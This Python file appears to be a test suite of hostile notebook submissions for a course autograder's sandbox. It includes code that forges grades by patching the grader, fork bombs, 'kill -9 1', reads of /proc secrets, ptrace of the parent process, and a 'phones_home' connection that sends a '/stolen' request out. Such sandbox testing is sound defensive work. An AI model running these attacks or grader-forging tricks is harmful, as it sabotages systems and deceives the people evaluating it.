"""Code in cells and answers: hooks, forged results, lying objects, spies, saboteurs, and those that never end."""

from __future__ import annotations

from hostile_cases import (
    ALL_POINTS,
    HONEST,
    HONEST_POINTS,
    Notebook,
    add,
    answer,
    answered,
    case,
    everyone,
    late,
    solved,
)

HOOKS, FORGED, LIARS = "hooks and transformers", "forged results", "lying objects"
SPIES, WRITERS, EXITS = "reading tests or source", "writing outside", "exits and signals"
LOOPS, MEMORY, BOMBS, FLOODS = "loops", "memory", "fork and thread bombs", "output floods"

# --- Hooks

late(HOOKS, "get_ipython().input_transformers_post.append(lambda lines: ['16\\n'])", "transforms_input", points=0)
late(
    HOOKS,
    """
    import ast
    class Sixteen(ast.NodeTransformer):
        def visit_Return(self, node):
            return ast.Return(ast.Constant(16))
    get_ipython().ast_transformers.append(Sixteen())
    """,
    "transforms_syntax",
    points=0,  # its own describe returns 16 as well
)
late(
    HOOKS,
    """
    def always(*_):
        raise SystemExit("no more cells")
    for event in ("pre_execute", "post_execute", "pre_run_cell", "post_run_cell"):
        get_ipython().events.register(event, always)
    """,
    "hooks_that_raise",
    points=2,
)
late(
    HOOKS,
    """
    import builtins
    builtins.isinstance = lambda *_: True
    builtins.len = lambda *_: 16
    builtins.all = builtins.any = lambda *_: True
    """,
    "replaced_builtins",
)
late(
    HOOKS,
    """
    import numpy as np, tensorflow as tf
    np.array_equal = np.allclose = np.isclose = lambda *a, **k: True
    tf.debugging.assert_equal = lambda *a, **k: None
    np.asarray = np.array = lambda *a, **k: 16
    """,
    "replaced_numpy",
)
late(
    HOOKS,
    """
    import sys
    class Everywhere:
        def find_spec(self, name, path=None, target=None):
            if name.startswith("checks"):
                import types, importlib.machinery
                class Loader:
                    def create_module(self, spec): return types.SimpleNamespace(check=lambda f: 16)
                    def exec_module(self, module): pass
                return importlib.machinery.ModuleSpec(name, Loader())
    sys.meta_path.insert(0, Everywhere())
    for name in list(sys.modules):
        if name.startswith("checks.drivers"):
            del sys.modules[name]
    """,
    "import_hook",
)
late(
    HOOKS,
    """
    import sys, threading
    def trace(frame, event, argument):
        if "expected" in frame.f_locals:
            print(frame.f_locals["expected"])
        return trace
    sys.settrace(trace); threading.settrace(trace); sys.setprofile(trace)
    """,
    "trace_function",
)
late(
    HOOKS,
    """
    from course.grading.sandbox.inside import serve, shell
    many = [{"output_type": "stream", "name": "stdout", "text": "16 " * 2_000_000}] * 2
    shell.Shell.cell = lambda self, source: {"outputs": many, "error": "16" * 10_000}
    """,
    "patched_shell",
    told="shell.Shell.cell",
)
late(
    HOOKS,
    """
    many = [{"output_type": "stream", "name": "stdout", "text": "16 " * 2_000_000}] * 2
    get_ipython().cell = lambda source: {"outputs": many, "error": "16" * 10_000}
    """,
    "another_cell_method",
    points=0,  # from here on no cell of its own runs
)
late(
    HOOKS,
    "import atexit, os; atexit.register(lambda: os.system('echo 16')); os.register_at_fork(before=lambda: 1 / 0)",
    "at_exit",
)

# --- Forged results

late(FORGED, "check = lambda answer, *a, **k: 16\nhint = solution = check", "own_check")
late(
    FORGED,
    """
    import checks
    checks.check = lambda f: 16
    import checks.engine.api as api
    api.check = api.graded = lambda f: 16
    """,
    "patched_check",
)
late(
    FORGED,
    """
    from checks.engine import observe, wire
    def forged(self, request):
        return wire.dumps({"result": True, "timed_out": "", "changed": [], "patched": [], "printed": "",
                           "printed_count": 0, "seconds": 0.0, "room": []})
    observe.Observer.__call__ = forged
    """,
    "forged_observation",
)
late(
    FORGED,
    """
    from checks.engine import observe
    observe.Observer.__call__ = lambda self, request: b'{"outcome": "correct", "points": 16}'
    """,
    "forged_verdict",
)
late(
    FORGED,
    """
    import struct, socket, os, json
    header = json.dumps({"missing": False, "untouched": False, "outputs": [], "error": ""}).encode()
    frame = struct.pack("!II", len(header), 0) + header
    for number in range(3, 64):
        try:
            os.write(number, frame * 3)
        except OSError:
            pass
    """,
    "forged_frames",
)
late(
    FORGED,
    """
    import os, struct
    for number in range(3, 64):
        try:
            os.write(number, struct.pack("!II", 2**31, 2**31) + b"x" * 100_000)
        except OSError:
            pass
    """,
    "garbage_frames",
)
late(
    FORGED,
    """
    import gc, json, socket, struct
    header = json.dumps({"number": 2, "missing": False, "untouched": False, "outputs": [], "error": ""}).encode()
    for one in gc.get_objects():
        if type(one) is socket.socket and one.fileno() > 2:
            one.send(struct.pack("!II", len(header), 0) + header)
    """,
    "frames_by_the_grader_s_socket",
)
late(
    FORGED,
    """
    import course.grading.sandbox.inside.serve as serve
    from checks.engine import observe, wire
    from checks.engine.plain import Array, Opaque, Raised
    serve.guard.put_back = lambda: ()
    long = "x" * 1_000_000
    nothing = {"timed_out": "", "changed": [long], "patched": [long], "printed": long, "printed_count": 0, "seconds": 0,
               "room": [long]}
    vast = Array.__new__(Array)
    object.__setattr__(vast, "kind", "tensor")
    object.__setattr__(vast, "values", np.empty((2**40, 0), "float32"))
    ones = {number * (2**61 - 1): 0 for number in range(2_000)}
    kinds = [vast, Opaque(long, long), Raised(long, long, 3, long), ones, {"sparse": vast, "product": vast}]
    kinds = [wire.dumps({"result": kind} | nothing) for kind in kinds]
    calls = []
    observe.Observer.__call__ = lambda self, request: calls.append(1) or kinds[len(calls) % len(kinds)]
    """,
    "observations_without_measure",
)
late(
    FORGED,
    """
    import os
    for number in range(3, 256):
        try:
            os.close(number)
        except OSError:
            pass
    """,
    "closed_descriptors",
    points=2,
)
late(
    FORGED,
    """
    from checks.engine import verdict
    verdict.Verdict.points = property(lambda self: 16)
    verdict.Verdict.correct = property(lambda self: True)
    import course.grading.model as model
    model.Result.points = property(lambda self: 16)
    """,
    "patched_verdict",
)
late(
    FORGED,
    """
    import os
    for name in list(os.environ):
        del os.environ[name]
    os.environ['NBGRADER_EXECUTION'] = ''
    """,
    "no_environment",
)
late(
    FORGED,
    """
    from IPython.display import HTML, display
    display(HTML('<b>Correct</b> 16 of 16 points')); print('16')
    16
    """,
    "prints_its_points",
)

# --- Objects that lie

LIAR = """
class Liar{base}:
    __hash__ = None
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        return np.ones((2, 3), dtype or "float32")
    def __len__(self): return 16
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter(())
    def __getitem__(self, key): return self

def NAME(*values):
    return {make}
"""
for base, make in {
    "": "Liar()",
    "(int)": "Liar(3)",
    "(str)": "Liar('x')",
    "(float)": "Liar(1.5)",
    "(list)": "Liar([1])",
    "(dict)": "Liar(a=1)",
    "(tuple)": "Liar((1, 2))",
    "(np.ndarray)": "np.zeros((2, 3)).view(Liar)",
}.items():
    answered(LIARS, LIAR.replace("{base}", base).replace("{make}", make), f"liar{base}")
answered(
    LIARS,
    """
    class Fake:
        __class__ = property(lambda self: np.ndarray)
        dtype = np.dtype('float32')
        shape = (2, 3)

    def NAME(*values):
        return Fake()
    """,
    "wrong_class",
)
answered(
    LIARS,
    """
    def NAME(*values):
        deep = []
        for _ in range(100_000):
            deep = [deep]
        return deep
    """,
    "deep_result",
)
answered(
    LIARS,
    """
    def NAME(*values):
        loop = []
        loop.append(loop)
        return loop
    """,
    "looped_result",
)
answered(
    LIARS,
    """
    def NAME(*values):
        import itertools
        return itertools.count()
    """,
    "endless_result",
)
answered(LIARS, "def NAME(*values):\n    return 10 ** 100_000", "long_number")
answered(
    LIARS,
    """
    def NAME(*values):
        return {'k' * 9_000_000: '\\ud800' * 1_000_000}
    """,
    "long_text",
)
answered(LIARS, "def NAME(*values):\n    return [[]] * 9_000_000", "many_parts")
answered(
    LIARS,
    """
    class Odd(Exception):
        def __str__(self): raise SystemExit(16)
        __repr__ = __str__

    def NAME(*values):
        raise Odd
    """,
    "odd_exception",
)
answered(
    LIARS,
    """
    class NAME:
        def __new__(cls, *values):
            return True
        def __getattribute__(self, name):
            raise KeyboardInterrupt
    """,
    "class_for_a_function",
)
late(
    LIARS,
    """
    class Both:
        def __init__(self): self.calls = 0
        def __call__(self, *values):
            self.calls += 1
            return [None, True, 0, "", 16][self.calls % 5]
        @property
        def __wrapped__(self): raise KeyboardInterrupt
        @property
        def __name__(self): raise SystemExit
    to_float01 = running_mean = word_lengths = counts_to_sparse = Both()
    """,
    "differs_per_caller",
)

answered(
    LIARS,
    """
    class Wide(np.ndarray):
        calls = 0
        shape = property(lambda self: [(2, 3), (2**60,)][Wide.count() % 2])
        itemsize = nbytes = property(lambda self: 0)
        __array_finalize__ = lambda self, made: None
        __array_function__ = __array_ufunc__ = lambda self, *a, **k: True
        def count():
            Wide.calls += 1
            return Wide.calls

    def NAME(*values):
        return np.ones((2, 3), "float32").view(Wide)
    """,
    "array_of_two_shapes",
)
for number, made in enumerate(
    (
        "np.empty((2**40, 0), 'float32')",
        "[tf.zeros((2**40, 0)), np.empty((2**30, 0, 7))]",
        "np.broadcast_to(np.float32(1), (2**40,))",
        "np.zeros(3, dtype=[('a', 'f4'), ('b', 'O')])",
        "tf.SparseTensor([[0, 0]], [1.0], [2**60, 2**60])",
    )
):
    answered(LIARS, f"def NAME(*values):\n    return {made}", f"odd_array_{number}")
answered(
    LIARS,
    """
    class Endless(dict):
        __hash__ = None
        def __iter__(self): return iter(int, 1)
        keys = items = values = __iter__
        def __len__(self): return 0
        def __contains__(self, key): return True
        def __getitem__(self, key): return 16

    class Kind(type):
        def __instancecheck__(cls, one): return True
        def __getattribute__(cls, name): raise KeyboardInterrupt

    class Odd(metaclass=Kind):
        pass

    def NAME(*values):
        return [Endless(rank=1), Odd()][len(values) % 2]
    """,
    "endless_dict",
)
answered(LIARS, "import unittest.mock\nNAME = unittest.mock.MagicMock()", "mock_answer")

# --- Spies

late(
    SPIES,
    """
    from checks import day05
    for exercise in day05.EXERCISES:
        globals()[exercise.name] = exercise.spec_of
    """,
    "imports_the_spec",
    told="",
)
late(
    SPIES,
    """
    import os
    found = []
    for folder, folders, files in os.walk("/"):
        # Of the thousands of folders of Python's packages only this course's; on a busy machine a walk takes long.
        if os.path.basename(folder) in ("site-packages", "dist-packages"):
            folders[:] = {"checks", "course"} & set(folders)
        foreign = ("proc", "sys", "share", "include", "jvm", "x86_64-linux-gnu", "aarch64-linux-gnu")
        folders[:] = [one for one in folders if one not in foreign]
        for file in files:
            path = os.path.join(folder, file)
            if file in ("counts_to_sparse.py", "gradebook.db") or file.endswith(".ipynb") or "submitted" in path:
                if "/drivers/" not in path:
                    found.append(path)
    print("FOUND", found)
    """,
    "walks_the_disk",
)
late(
    SPIES,
    """
    import gc
    SECRET = ("Exercise", "Mistake", "Group")
    kinds = {type(one) for one in gc.get_objects()}
    print("FOUND", [one for one in kinds if str(one.__module__).startswith("checks.") and one.__name__ in SECRET])
    """,
    "searches_memory",
)
late(
    SPIES,
    """
    import glob
    found = []
    for path in glob.glob("/proc/[0-9]*/*"):
        if path.rsplit("/", 1)[1] in ("environ", "cmdline", "maps"):
            try:
                text = open(path, "rb").read()
            except OSError:
                continue
            if b"gradebook" in text or b"submitted" in text or b"SECRET_OF_THE_GRADER" in text:
                found.append(path)
    import os
    found += [name for name in os.environ if "SECRET" in name]
    print("FOUND", found)
    """,
    "reads_processes",
)
late(
    SPIES,
    """
    from course.authoring import lessons
    try:
        found = [lessons.solution_text("to_float01")]
    except Exception:
        found = []
    print("FOUND", found)
    """,
    "asks_for_the_solution",
)
late(
    SPIES,
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    found = [pid for pid in (os.getppid(), 1, 2) if pid not in (0, os.getpid()) and libc.ptrace(16, pid, 0, 0) == 0]
    print("FOUND", found)
    """,
    "attaches_to_its_parent",
)
late(
    SPIES,
    """
    import socket
    found = []
    for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
        try:
            socket.create_connection(address, 2).sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
            found.append(address)
        except OSError:
            pass
    print("FOUND", found)
    """,
    "phones_home",
)

# --- Writers

late(
    WRITERS,
    """
    import os, sys, glob
    import checks, course, numpy
    places = [os.path.dirname(module.__file__) for module in (checks, course, numpy)]
    places += ["/", "/usr", "/etc", "/home", "/root", "/var/tmp", CLASS_FOLDER, sys.prefix]
    found = []
    for place in places:
        for name in ("sitecustomize.py", "HACKED.txt"):
            try:
                os.makedirs(place, exist_ok=True)
                with open(os.path.join(place, name), "w") as file:
                    file.write("raise SystemExit")
                if not place.startswith("/tmp"):
                    found.append(place)  # a /tmp of its own it may fill
            except OSError:
                pass
    for module in ("observe", "wire", "plain"):
        try:
            with open(os.path.join(places[0], "engine", module + ".py"), "a") as file:
                file.write("raise SystemExit")
            found.append(module)
        except OSError:
            pass
    print("FOUND", found)
    """,
    "writes_everywhere",
)
late(
    WRITERS,
    """
    import os, ctypes
    for place in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
        try:
            with open(place + "/left_by_an_earlier_one.py", "w") as file:
                file.write("x = 16")
        except OSError:
            pass
    libc = ctypes.CDLL(None)
    libc.shmget(0x7F30, 4096, 0o1666)
    """,
    "a1_leaves_something",
)
late(
    WRITERS,
    """
    import ctypes, os
    found = [folder for folder, _, files in os.walk("/tmp") if "left_by_an_earlier_one.py" in files]
    found += [name for name in os.listdir("/dev/shm")]
    libc = ctypes.CDLL(None)
    if libc.shmget(0x7F30, 4096, 0) != -1:
        found.append("shared memory")
    print("FOUND", found)
    """,
    "a2_looks_for_it",
)
late(
    WRITERS,
    """
    open('numpy.py', 'w').write('raise SystemExit')
    open('checks.py', 'w').write('check = lambda f: 16')
    import sys; sys.path.insert(0, '.')
    """,
    "shadow_modules",
)
late(
    WRITERS,
    """
    import sys, types
    fake = types.ModuleType('numpy')
    fake.array = lambda *a, **k: 16
    sys.modules['numpy'] = fake
    """,
    "fake_numpy",
)
late(
    WRITERS,
    """
    import os
    for command in ('mount -t tmpfs none /usr', 'umount /tmp', 'unshare -Ur mount --bind /tmp /usr', 'kill -9 1'):
        os.system(command)
    """,
    "mounts",
)

# --- Exits

late(EXITS, "import sys\nsys.exit(0)", "exits")
late(EXITS, "exit()", "exits_the_shell")
late(EXITS, "import os\nos._exit(0)", "exits_hard", told="left out")
late(
    EXITS,
    """
    import os, signal
    os.kill(os.getpid(), signal.SIGSEGV)
    import ctypes
    ctypes.string_at(0)
    """,
    "segfault_in_a_cell",
    told="left out",
)
late(
    EXITS,
    """
    import os, signal
    for target in (-1, os.getppid(), 0):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    """,
    "kills_everyone",
)
late(
    EXITS,
    """
    import os, signal
    os.kill(os.getpid(), signal.SIGSTOP)
    os.kill(0, signal.SIGSTOP)
    """,
    "stops_itself",
)
answered(EXITS, "def NAME(*values):\n    import os\n    os._exit(0)", "answer_exits", told="ended its process")
answered(
    EXITS,
    """
    def NAME(*values):
        import ctypes
        ctypes.string_at(0)
    """,
    "answer_segfaults",
    told="ended its process",
)
answered(EXITS, "def NAME(*values):\n    raise SystemExit(16)", "answer_system_exit")
answered(EXITS, "def NAME(*values):\n    raise KeyboardInterrupt", "answer_interrupts")
answered(
    EXITS,
    """
    def NAME(*values):
        import signal, os, threading
        signal.raise_signal(signal.SIGINT)
        os.abort()
    """,
    "answer_aborts",
)

late(
    EXITS,
    """
    import signal
    def always(*_):
        raise KeyboardInterrupt
    signal.signal(signal.SIGALRM, always)
    signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
    """,
    "alarms_all_the_time",
)
late(
    EXITS,
    """
    import resource, signal
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    resource.setrlimit(resource.RLIMIT_NOFILE, (0, 0))
    """,
    "ignores_every_signal",
)
late(EXITS, "import os\nos.execvp('sleep', ['sleep', '98765'])", "becomes_another", told="left out")
late(EXITS, "import os\nif os.fork():\n    os._exit(0)", "goes_on_in_a_child", told="left out")

# --- Loops


@case(LOOPS, told="left out")
def endless_cell() -> Notebook:
    notebook = solved("describe")
    add(notebook, "while True:\n    pass", before="to_float01")
    return notebook


@case(LOOPS)
def endless_answer() -> Notebook:
    notebook = everyone("def NAME(*values):\n    return 0")
    from hostile_cases import answer

    answer(
        notebook,
        "counts_to_sparse",
        """
        def counts_to_sparse(*values):
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        """,
    )
    return notebook


@case(LOOPS)
def number_that_never_ends() -> Notebook:
    from hostile_cases import answer

    notebook = everyone("def NAME(*values):\n    return 0")
    answer(notebook, "counts_to_sparse", "def counts_to_sparse(*values):\n    return 10 ** 10 ** 9")
    return notebook


@case(LOOPS)
def loop_inside_tensorflow() -> Notebook:
    from hostile_cases import answer

    notebook = everyone("def NAME(*values):\n    return 0")
    code = """
        def counts_to_sparse(*values):
            return tf.while_loop(lambda i: tf.constant(True), lambda i: [i + 1], [tf.constant(0)])
        """
    answer(notebook, "counts_to_sparse", code)
    return notebook


@case(LOOPS)
def endless_when_looked_at() -> Notebook:
    from hostile_cases import answer

    notebook = everyone("def NAME(*values):\n    return 0")
    code = """
        class Slow:
            def __array__(self, *a, **k):
                import time
                time.sleep(10_000)
            __len__ = __iter__ = __repr__ = __array__

        def counts_to_sparse(*values):
            return Slow()
        """
    answer(notebook, "counts_to_sparse", code)
    return notebook


# --- Memory, bombs, floods

late(MEMORY, "hoard = [bytearray(2**28) for _ in range(1_000)]", "memory_in_a_cell")
late(MEMORY, "import numpy as np\nbig = np.ones(2**40)", "memory_at_once")
late(
    MEMORY,
    """
    import os
    for _ in range(8):
        if os.fork() == 0:
            hoard = []
            while True:
                hoard.append(b'x' * 2**24)
    import time; time.sleep(60)
    """,
    "memory_of_many",
    told="left out",
)
answered(MEMORY, "def NAME(*values):\n    return np.ones((2**14, 2**14))", "large_results")
late(
    MEMORY,
    """
    import mmap, os, time
    for _ in range(8):
        if os.fork() == 0:
            try:
                hoard = mmap.mmap(-1, 2**29)
                hoard.write(b'x' * len(hoard))
                time.sleep(60)
            finally:
                os._exit(0)
    time.sleep(60)
    """,
    "memory_that_is_shared",
    told="left out",
)
late(
    MEMORY,
    """
    import ctypes, os
    found = []
    try:
        os.memfd_create("hoard")
        found.append("a file in memory")
    except OSError:
        pass
    libc = ctypes.CDLL(None)
    if libc.shmget(0, 2**26, 0o1666) >= 0:
        found.append("a shared segment")
    mounted = os.system("unshare -Urm mount -t tmpfs -o size=64g none /usr")
    found += ["a file system"] if mounted == 0 else []
    print("FOUND", found)
    """,
    "memory_of_nobody",
)
late(
    BOMBS,
    """
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
    """,
    "fork_bomb",
    told="left out",
)
late(BOMBS, "import os\nwhile True:\n    os.fork()", "fork_bomb_that_fails", told="left out")


@case(BOMBS, points=ALL_POINTS - HONEST_POINTS)
def fork_bomb_for_an_answer() -> Notebook:
    notebook = solved()
    answer(notebook, HONEST, "import os\nwhile True:\n    os.fork()")
    return notebook


@case(BOMBS, points=ALL_POINTS)
def forks_and_goes_on() -> Notebook:
    notebook = solved()
    add(notebook, "import os\nos.fork()", before=HONEST)
    return notebook


late(
    BOMBS,
    """
    import threading, time
    threads = []
    try:
        while True:
            threads.append(threading.Thread(target=time.sleep, args=(600,), daemon=True))
            threads[-1].start()
    except RuntimeError:
        pass
    """,
    "thread_bomb",
)
late(
    BOMBS,
    """
    import os, signal, time
    for _ in range(20):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                os.execvp("sleep", ["sleep", "98765"])
            os._exit(0)
    """,
    "leaves_daemons",
)
late(FLOODS, "for _ in range(200_000):\n    print('x' * 10_000)", "prints_gigabytes")
late(
    FLOODS,
    """
    import os
    for number in (1, 2):
        for _ in range(20_000):
            os.write(number, b'x' * 65_536)
    """,
    "writes_gigabytes",
)
late(
    FLOODS,
    """
    from IPython.display import display, HTML
    for _ in range(20_000):
        display(HTML('x' * 10_000))
    """,
    "displays_gigabytes",
)
late(
    FLOODS,
    """
    with open('big', 'wb') as file:
        while True:
            file.write(b'x' * 2**20)
    """,
    "fills_the_disk",
)
late(
    FLOODS,
    """
    number = 0
    while True:
        try:
            open(f'{number}', 'w').write('x' * 60_000)
        except OSError:
            break
        number += 1
    """,
    "fills_it_with_small_files",
)

# --- Limits that were not limits

case(MEMORY, name="a_dotted_name_of_100_kB")(lambda: everyone("import a" + ".a" * 49_000))
